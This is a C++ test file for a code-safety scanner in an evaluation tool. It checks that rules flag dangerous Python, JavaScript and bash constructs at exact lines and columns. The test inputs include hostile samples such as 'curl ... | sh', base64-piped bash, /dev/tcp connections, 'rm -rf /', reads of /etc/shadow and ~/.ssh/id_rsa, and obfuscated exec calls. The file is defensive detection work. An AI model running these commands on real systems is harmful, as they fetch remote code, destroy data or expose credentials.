// Tests for safety.hpp: every rule on real tokens with exact line and column, nothing found in strings or
// comments, presets, allow and deny lists, and the JavaScript and bash scanners.
#include "e2beval/analysis/safety.hpp"

#include <doctest/doctest.h>

#include <algorithm>
#include <string>
#include <tuple>
#include <vector>

#include "e2beval/core/error.hpp"

// The tests are unity-built (CMakeLists.txt): this source's names stay in a namespace of its own.
namespace e2beval_test_safety {

using e2beval::Language;
using e2beval::Policy;
using e2beval::PolicyPreset;
using e2beval::SafetyScanner;
using e2beval::Severity;

namespace {

using Hit = std::tuple<std::string, std::size_t, std::size_t>;  // rule, line, column

std::vector<Hit> hits(const std::vector<e2beval::Finding>& findings) {
    std::vector<Hit> result;
    for (const auto& finding : findings) result.emplace_back(finding.rule, finding.line, finding.column);
    return result;
}

std::vector<Hit> scan(std::string_view code, PolicyPreset preset, Language language = Language::python) {
    Policy policy;
    policy.preset = preset;
    return hits(SafetyScanner(policy).scan(code, language));
}

}  // namespace

TEST_CASE("the ten tutorial checks, each at its token") {
    const std::string code =
        "import os, socket\n"
        "import requests\n"
        "import urllib.request\n"
        "from urllib.parse import quote\n"
        "os.system(\"ls\")\n"
        "subprocess.run([\"ls\"])\n"
        "x = eval(\"1+1\")\n"
        "exec(\"pass\")\n"
        "open('/etc/passwd')\n"
        "data = open(\"/proc/self/environ\").read()\n"
        "m = __import__(\"os\")\n"
        "from socket import create_connection\n";
    const std::vector<Hit> expected{
        {"import-socket", 1, 12}, {"import-requests", 2, 8}, {"import-urllib", 3, 8}, {"import-urllib", 4, 6},
        {"os-system", 5, 1},      {"subprocess", 6, 1},      {"call-eval", 7, 5},     {"call-exec", 8, 1},
        {"open-etc", 9, 1},       {"open-proc", 10, 8},      {"dunder-import", 11, 5}, {"import-socket", 12, 6},
    };
    CHECK(scan(code, PolicyPreset::tutorial) == expected);
    CHECK(scan(code, PolicyPreset::standard) == expected);

    const auto findings = SafetyScanner().scan("import socket\n", Language::python);
    REQUIRE(findings.size() == 1);
    CHECK(findings[0].severity == Severity::block);
    CHECK(findings[0].message ==
          "imports socket: raw network access from generated code (the sandbox has no network; this is advice)");
    CHECK(SafetyScanner::blocks(findings));
}

TEST_CASE("the same words inside strings, f-strings, triple-quoted strings and comments are not findings") {
    const std::string code =
        "s = \"import socket; os.system('x'); subprocess; eval(1); exec(2)\"\n"
        "t = f\"use subprocess and eval( carefully {value!r:>10}\"\n"
        "u = '''\n"
        "import requests\n"
        "open('/etc/passwd')\n"
        "'''\n"
        "# import socket  os.system  __import__( open('/proc/1')\n"
        "v = rb'exec(' + Rb\"__import__(\" + BR'''os.system'''\n"
        "w = \"escaped \\\" eval(1) \\\" still a string\"\n"
        "z = 'it\\'s eval(1)'\n"
        "def eval(x):  # a definition named eval is not a call\n"
        "    return x\n"
        "obj.eval(1)\n"
        "path = 'socket'\n";
    CHECK(scan(code, PolicyPreset::strict).empty());
    CHECK(scan(code, PolicyPreset::tutorial).empty());
}

TEST_CASE("code inside f-string fields is still checked") {
    CHECK(scan("y = f\"{eval(x)}\"\n", PolicyPreset::tutorial) == std::vector<Hit>{{"call-eval", 1, 8}});
    CHECK(scan("y = f'''\n  {os.system('ls')}\n'''\n", PolicyPreset::tutorial) ==
          std::vector<Hit>{{"os-system", 2, 4}});
}

TEST_CASE("lines and columns across continuations and multi-line strings") {
    CHECK(scan("x = (1 +\n     eval(\"2\"))\n", PolicyPreset::tutorial) == std::vector<Hit>{{"call-eval", 2, 6}});
    CHECK(scan("doc = \"\"\"one\ntwo\"\"\"; eval(\"1\")\n", PolicyPreset::tutorial) ==
          std::vector<Hit>{{"call-eval", 2, 9}});
    CHECK(scan("total = 1 + \\\n    exec(\"x\")\n", PolicyPreset::tutorial) == std::vector<Hit>{{"call-exec", 2, 5}});
    CHECK(scan("\tif x:\r\n\t\teval(y)\r\n", PolicyPreset::tutorial) == std::vector<Hit>{{"call-eval", 2, 3}});
}

TEST_CASE("from os import system: standard and strict find it, tutorial does not") {
    // The call through the imported name is not reported again: the import already was.
    const std::string code = "from os import path, system\nsystem('ls')\n";
    CHECK(scan(code, PolicyPreset::tutorial).empty());
    CHECK(scan(code, PolicyPreset::standard) == std::vector<Hit>{{"import-os-system", 1, 22}});
    CHECK(scan(code, PolicyPreset::strict) == std::vector<Hit>{{"import-os-system", 1, 22}});
}

TEST_CASE("the standard additions") {
    const std::string code =
        "import ctypes\n"
        "import os as o\n"
        "o.popen('ls')\n"
        "os.execv('/bin/sh', ['sh'])\n"
        "os.spawnlp(os.P_WAIT, 'ls', 'ls')\n"
        "import importlib\n"
        "importlib.import_module('socket')\n"
        "getattr(__builtins__, 'eval')\n"
        "from importlib import import_module\n";
    const std::vector<Hit> expected{
        {"import-ctypes", 1, 8},           {"os-popen", 3, 1},         {"os-exec", 4, 1},
        {"os-exec", 5, 1},                 {"import-importlib", 6, 8}, {"import-socket", 7, 1},
        {"importlib-import-module", 7, 1}, {"builtins-access", 8, 1},  {"dynamic-lookup", 8, 1},
        {"builtins-access", 8, 9},         {"import-importlib", 9, 6}, {"importlib-import-module", 9, 23},
    };
    CHECK(scan(code, PolicyPreset::standard) == expected);
    // The module named by import_module's fixed argument is an import like any other, even for the tutorial.
    CHECK(scan(code, PolicyPreset::tutorial) == std::vector<Hit>{{"import-socket", 7, 1}});
}

TEST_CASE("the strict additions") {
    const std::string code =
        "open('out.txt', 'w')\n"
        "open('/tmp/data')\n"
        "open('notes.txt', mode='a+')\n"
        "open('in.txt')\n"
        "code = compile('1', 'x', 'eval')\n"
        "g = globals()\n"
        "().__class__.__base__.__subclasses__()\n"
        "f.__globals__\n"
        "pattern = re.compile('x')\n";
    const std::vector<Hit> expected{
        {"open-write", 1, 1},   {"open-absolute-path", 2, 1}, {"open-write", 3, 1},     {"call-compile", 5, 8},
        {"call-globals", 6, 5}, {"dunder-escape", 7, 14},     {"dunder-subclasses", 7, 23}, {"dunder-globals", 8, 3},
    };
    CHECK(scan(code, PolicyPreset::strict) == expected);
    // Under standard, writes, absolute paths and compile are warnings; the escapes block.
    Policy standard;
    const auto findings = SafetyScanner(standard).scan(code, Language::python);
    std::vector<Hit> blocking;
    for (const auto& finding : findings)
        if (finding.severity == Severity::block) blocking.emplace_back(finding.rule, finding.line, finding.column);
    CHECK(blocking == std::vector<Hit>{{"dunder-escape", 7, 14}, {"dunder-subclasses", 7, 23}, {"dunder-globals", 8, 3}});
    CHECK(findings.size() == 7);
    // /etc is reported once, as open-etc, not also as an absolute path.
    CHECK(scan("open('/etc/shadow', 'w')\n", PolicyPreset::strict) ==
          std::vector<Hit>{{"open-etc", 1, 1}, {"open-write", 1, 1}});
}

TEST_CASE("allow_rules removes findings, deny_rules raises them to block") {
    const std::string code = "import subprocess\nimport ctypes\nx = eval('1')\n";
    Policy allow;
    allow.preset = PolicyPreset::standard;
    allow.allow_rules = {"subprocess", "call-eval"};
    CHECK(hits(SafetyScanner(allow).scan(code, Language::python)) == std::vector<Hit>{{"import-ctypes", 2, 8}});

    Policy deny;
    deny.preset = PolicyPreset::tutorial;
    deny.deny_rules = {"import-ctypes"};
    const auto findings = SafetyScanner(deny).scan(code, Language::python);
    CHECK(hits(findings) == std::vector<Hit>{{"subprocess", 1, 8}, {"import-ctypes", 2, 8}, {"call-eval", 3, 5}});
    CHECK(findings[1].severity == Severity::block);

    Policy both;
    both.allow_rules = {"call-eval"};
    both.deny_rules = {"call-eval"};
    CHECK(hits(SafetyScanner(both).scan("eval('1')\n", Language::python)) == std::vector<Hit>{{"call-eval", 1, 1}});

    Policy unknown;
    unknown.deny_rules = {"no-such-rule"};
    CHECK_THROWS_WITH_AS(SafetyScanner{unknown},
                         doctest::Contains("unknown safety rule \"no-such-rule\" in deny_rules; known rules: "
                                           "import-socket, import-requests"),
                         e2beval::input_error);
}

TEST_CASE("javascript: child_process, eval and process.env on tokens") {
    const std::string code =
        "const cp = require('child_process');\n"
        "import { exec } from \"node:child_process\";\n"
        "eval(\"1\");\n"
        "console.log(process.env.HOME);\n"
        "// eval(\"x\") require('child_process')\n"
        "const s = \"eval(1) process.env\";\n"
        "const t = `template ${eval(\"2\")} and eval(3)`;\n"
        "const r = /eval\\(/g;\n"
        "obj.eval(1);\n"
        "/* process.env\n eval(2) */\n";
    Policy policy;
    const auto findings = SafetyScanner(policy).scan(code, Language::javascript);
    CHECK(hits(findings) == std::vector<Hit>{{"js-child-process", 1, 20},
                                             {"js-child-process", 2, 22},
                                             {"js-eval", 3, 1},
                                             {"js-process-env", 4, 13},
                                             {"js-eval", 7, 23}});
    REQUIRE(findings.size() == 5);
    CHECK(findings[3].severity == Severity::warning);
    CHECK(scan(code, PolicyPreset::tutorial, Language::javascript).empty());

    policy.deny_rules = {"js-process-env"};
    const auto denied = SafetyScanner(policy).scan("process.env.TOKEN\n", Language::javascript);
    REQUIRE(denied.size() == 1);
    CHECK(denied[0].severity == Severity::block);
}

TEST_CASE("bash: network tools, /dev/tcp and rm -rf / as commands, not as text") {
    const std::string code =
        "curl -s http://example.com\n"
        "echo \"curl wget nc\" # comment: curl\n"
        "X=1 wget http://x\n"
        "cat < /dev/tcp/example.com/80\n"
        "rm -rf /\n"
        "rm -rf ./build\n"
        "cat <<EOF\n"
        "curl inside a here-document\n"
        "EOF\n"
        "sudo nc -l 80\n"
        "echo $(curl http://y)\n"
        "ls | /usr/bin/wget z\n"
        "echo '/dev/tcp/quoted/1'\n"
        "rm -r -f /*\n";
    const std::vector<Hit> expected{
        {"bash-network-tool", 1, 1}, {"bash-network-tool", 3, 5}, {"bash-dev-tcp", 4, 7},
        {"bash-rm-root", 5, 1},      {"bash-privileged", 10, 1},  {"bash-network-tool", 10, 6},
        {"bash-network-tool", 11, 8},
        {"bash-network-tool", 12, 6}, {"bash-rm-root", 14, 1},
    };
    CHECK(scan(code, PolicyPreset::standard, Language::bash) == expected);
    CHECK(scan(code, PolicyPreset::tutorial, Language::bash).empty());
}

TEST_CASE("names of severities and presets") {
    CHECK(e2beval::to_string(Severity::info) == "info");
    CHECK(e2beval::to_string(Severity::warning) == "warning");
    CHECK(e2beval::to_string(Severity::block) == "block");
    CHECK(e2beval::to_string(PolicyPreset::tutorial) == "tutorial");
    CHECK(e2beval::to_string(PolicyPreset::standard) == "standard");
    CHECK(e2beval::to_string(PolicyPreset::strict) == "strict");
    CHECK_FALSE(SafetyScanner::blocks({}));
}

TEST_CASE("eval is a warning under standard and a block under tutorial and strict; exec blocks everywhere") {
    // HumanEval/160's reference solution evaluates an arithmetic string: a correct answer must not be failed.
    const std::string code = "def do_algebra(expression):\n    return eval(expression)\n";
    for (const auto& [preset, blocks] : {std::pair{PolicyPreset::tutorial, true}, std::pair{PolicyPreset::standard, false},
                                        std::pair{PolicyPreset::strict, true}}) {
        Policy policy;
        policy.preset = preset;
        const auto findings = SafetyScanner(policy).scan(code, Language::python);
        REQUIRE(findings.size() == 1);
        CHECK(findings[0].rule == "call-eval");
        CHECK(SafetyScanner::blocks(findings) == blocks);
    }
    CHECK(SafetyScanner::blocks(SafetyScanner().scan("exec(code)\n", Language::python)));
}

TEST_CASE("strings run by eval and exec are scanned as code, at the call") {
    CHECK(scan("exec(\"import os\\nos.system('id')\")\n", PolicyPreset::standard) ==
          std::vector<Hit>{{"call-exec", 1, 1}, {"os-system", 1, 1}});
    CHECK(scan("payload = 'import ' + 'socket'\nexec(payload)\n", PolicyPreset::standard) ==
          std::vector<Hit>{{"call-exec", 2, 1}, {"import-socket", 2, 1}});
    const auto findings = SafetyScanner().scan("eval(\"__import__('os')\")\n", Language::python);
    REQUIRE(findings.size() == 2);
    CHECK(findings[1].message.starts_with("in the string that eval() runs: calls __import__()"));
}

TEST_CASE("obfuscation: names assembled from pieces, decoders and aliases feeding eval, getattr and imports") {
    const auto blocked_by = [](std::string_view code) {
        std::vector<std::string> rules;
        for (const auto& finding : SafetyScanner().scan(code, Language::python))
            if (finding.severity == Severity::block) rules.push_back(finding.rule);
        return rules;
    };
    const auto contains = [](const std::vector<std::string>& rules, std::string_view rule) {
        return std::find(rules.begin(), rules.end(), rule) != rules.end();
    };
    CHECK(contains(blocked_by("m = __import__('o' + 's')\n"), "import-os-system") == false);
    CHECK(contains(blocked_by("getattr(os, 'sys' + 'tem')('id')\n"), "assembled-name"));
    CHECK(contains(blocked_by("import os\ngetattr(os, 'metsys'[::-1])('id')\n"), "os-system"));
    CHECK(contains(blocked_by("exec(chr(105) + chr(109) + chr(112) + chr(111) + chr(114) + chr(116) + chr(32) + "
                              "chr(111) + chr(115))\n"),
                   "assembled-name"));
    CHECK(contains(blocked_by("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"), "obfuscated-code"));
    CHECK(contains(blocked_by("from base64 import b64decode as d\neval(d('eA=='))\n"), "obfuscated-code"));
    CHECK(contains(blocked_by("e = eval\ne(\"__import__('os')\")\n"), "dunder-import"));
    CHECK(contains(blocked_by("g = globals()['__buil' + 'tins__']\n"), "dynamic-lookup"));
    // Ordinary code with the same shapes is fine.
    CHECK(blocked_by("def shift(s):\n    return ''.join(chr(ord(c) + 1) for c in s)\n").empty());
    CHECK(blocked_by("method = getattr(self, 'handle_' + command)\n").empty());
    CHECK(blocked_by("HANDLERS = {'eval': 1, '__import__': 2}\nprint('o' + 'k')\n").empty());
}

TEST_CASE("the policy's module and call lists") {
    Policy policy;
    policy.allow_modules = {"pickle"};
    policy.deny_modules = {"json"};
    policy.allow_calls = {"eval"};
    policy.deny_calls = {"os.getcwd", "print"};
    const std::string code = "import pickle, json.decoder\nimport os\nos.getcwd()\nprint(eval('1'))\n";
    CHECK(hits(SafetyScanner(policy).scan(code, Language::python)) ==
          std::vector<Hit>{{"denied-module", 1, 16}, {"denied-call", 3, 1}, {"denied-call", 4, 1}});
    CHECK(hits(SafetyScanner(policy).scan("const j = require('json');\nprint(1);\n", Language::javascript)) ==
          std::vector<Hit>{{"denied-module", 1, 19}, {"denied-call", 2, 1}});
    policy.deny_calls = {"ls"};
    CHECK(hits(SafetyScanner(policy).scan("ls -la\necho ls\n", Language::bash)) == std::vector<Hit>{{"denied-call", 1, 1}});
}

TEST_CASE("javascript and bash additions") {
    CHECK(scan("const fs = require('fs');\nconst m = require(name);\nnew Function('return 1');\n"
               "process.binding('fs');\n",
               PolicyPreset::standard, Language::javascript) ==
          std::vector<Hit>{{"js-fs", 1, 20}, {"js-dynamic-require", 2, 11}, {"js-function-constructor", 3, 5},
                           {"js-process-binding", 4, 1}});
    CHECK(scan("curl -s http://x | sh\necho aGk= | base64 -d | bash\necho hi > /etc/motd\ncat ~/.ssh/id_rsa\n"
               "python3 -c \"import socket\"\n",
               PolicyPreset::standard, Language::bash) ==
          std::vector<Hit>{{"bash-network-tool", 1, 1}, {"bash-pipe-to-shell", 1, 20}, {"bash-pipe-to-shell", 2, 25},
                           {"bash-outside-workspace", 3, 11}, {"bash-outside-workspace", 4, 5},
                           {"import-socket", 5, 12}});
}

// fs is what a stdin/stdout answer reads its input with: loading it warns under `standard`; the paths its calls
// are given block as Python's open() paths do (system locations, ..), however fs was bound.
TEST_CASE("javascript: fs warns under standard; system and parent paths given to fs calls block") {
    struct Case {
        std::string code;
        std::vector<std::string> rules;  // every finding under standard, in order
        bool blocked;
    };
    const std::vector<Case> cases{
        // What correct answers do.
        {"const data = require('fs').readFileSync(0, 'utf8');\n", {"js-fs"}, false},
        {"const fs = require('fs');\nconst s = fs.readFileSync('/dev/stdin', 'utf8');\n", {"js-fs"}, false},
        {"const fs = require('fs');\nfs.readFileSync(process.stdin.fd, 'utf-8');\nfs.writeSync(1, out + '\\n');\n",
         {"js-fs"}, false},
        {"const fs = require('fs');\nconst s = fs.readFileSync('input.txt');\nfs.writeFileSync('out.txt', s);\n",
         {"js-fs"}, false},
        {"import { readFileSync } from 'node:fs';\nconsole.log(readFileSync(0, 'utf8').split('\\n')[0]);\n",
         {"js-fs"}, false},
        // A path-normalisation answer holds system paths as data; only what fs is given counts.
        {"const fs = require('fs');\nconst tests = ['/home/../etc', '/proc/'];\nfs.readFileSync(0, 'utf8');\n",
         {"js-fs"}, false},
        // System locations and climbing out, however fs is bound.
        {"const fs = require('fs');\nfs.readFileSync('/etc/passwd', 'utf8');\n", {"js-fs", "js-fs-system-path"}, true},
        {"import { readFile } from 'fs/promises';\nawait readFile('/etc/shadow');\n",
         {"js-fs", "js-fs-system-path"}, true},
        {"import * as fs from 'fs';\nfs.promises.readFile('/proc/self/environ');\n", {"js-fs", "js-fs-system-path"}, true},
        {"const { readFileSync: r } = require('fs');\nr('/root/.ssh/id_rsa');\n", {"js-fs", "js-fs-system-path"}, true},
        {"require('fs').writeFileSync('../../escape.txt', 'x');\n", {"js-fs", "js-fs-parent-path"}, true},
        {"const fs = require('fs');\nconst p = '/var/' + 'log/syslog';\nfs.readFileSync(p);\n",
         {"js-fs", "js-fs-system-path"}, true},
        {"const fs = require('fs');\nfs.readdirSync(`/proc/${pid}/fd`);\n", {"js-fs", "js-fs-system-path"}, true},
        {"const fs = require('fs');\nconst path = require('path');\nfs.readFileSync(path.join('/etc', 'passwd'));\n",
         {"js-fs", "js-fs-system-path"}, true},
        {"const fs = require('fs');\nfs['readFileSync']('~/.bashrc');\n", {"js-fs", "js-fs-system-path"}, true},
        // TypeScript's annotations name a type before the '=': the binding is the declared name.
        {"const fs: any = require('fs');\nconst p: string = '/home/' + 'u/.aws/credentials';\nfs.readFileSync(p);\n",
         {"js-fs", "js-fs-system-path"}, true},
        {"const fs = require('fs');\nconst read = fs.readFileSync;\nread('/dev/sda');\n",
         {"js-fs", "js-fs-system-path"}, true},
        {"const fs = require('fs');\nfs.copyFileSync('a.txt', '/home/user/b.txt');\n", {"js-fs", "js-fs-system-path"}, true},
        // Another absolute path, or one computed at run time: a warning.
        {"const fs = require('fs');\nfs.writeFileSync('/tmp/x.txt', 'x');\n", {"js-fs", "js-fs-absolute-path"}, false},
        {"const fs = require('fs');\nfs.readFileSync(process.argv[2]);\n", {"js-fs", "js-fs-computed-path"}, false},
        // A path decoded at run time hides which file: it blocks as obfuscation.
        {"const fs = require('fs');\nfs.readFileSync(atob('L2V0Yy9wYXNzd2Q='));\n", {"js-fs", "js-obfuscated-code"}, true},
        {"const fs = require('fs');\nfs.readFileSync('\\x2fetc\\x2fpasswd');\n", {"js-fs", "js-fs-system-path"}, true},
    };
    for (const auto& [code, rules, blocked] : cases) {
        CAPTURE(code);
        const auto findings = SafetyScanner(Policy{}).scan(code, Language::javascript);
        std::vector<std::string> found;
        for (const auto& finding : findings) found.push_back(finding.rule);
        CHECK(found == rules);
        CHECK(SafetyScanner::blocks(findings) == blocked);
        // TypeScript reads the same rules.
        CHECK(SafetyScanner::blocks(SafetyScanner(Policy{}).scan(code, Language::typescript)) == blocked);
    }
    // The exact place: the path argument.
    CHECK(scan("const fs = require('fs');\nfs.readFileSync(\"/etc/passwd\");\n", PolicyPreset::standard,
               Language::javascript) == std::vector<Hit>{{"js-fs", 1, 20}, {"js-fs-system-path", 2, 17}});
    // strict blocks loading fs at all; tutorial (Python's ten checks) says nothing.
    const std::string stdin_answer = "const s = require('fs').readFileSync(0, 'utf8');\nconsole.log(s.length);\n";
    Policy strict;
    strict.preset = PolicyPreset::strict;
    CHECK(SafetyScanner::blocks(SafetyScanner(strict).scan(stdin_answer, Language::javascript)));
    CHECK(scan("require('fs').readFileSync('/etc/passwd');\n", PolicyPreset::tutorial, Language::javascript).empty());
    // allow_calls drops a path finding by the fs function's name.
    Policy allowed;
    allowed.allow_calls = {"readFileSync"};
    CHECK(hits(SafetyScanner(allowed).scan("require('fs').readFileSync('/etc/hostname');\n", Language::javascript)) ==
          std::vector<Hit>{{"js-fs", 1, 9}});
}

TEST_CASE("rules() lists every rule with its severity per preset; preset names parse") {
    const auto rules = SafetyScanner::rules();
    CHECK(rules.size() >= 55);
    const auto eval = std::find_if(rules.begin(), rules.end(), [](const auto& rule) { return rule.id == "call-eval"; });
    REQUIRE(eval != rules.end());
    CHECK(eval->tutorial == Severity::block);
    CHECK(eval->standard == Severity::warning);
    CHECK(eval->strict == Severity::block);
    CHECK(e2beval::policy_preset_from_string("strict") == PolicyPreset::strict);
    CHECK_FALSE(e2beval::policy_preset_from_string("lenient").has_value());
}

}  // namespace e2beval_test_safety
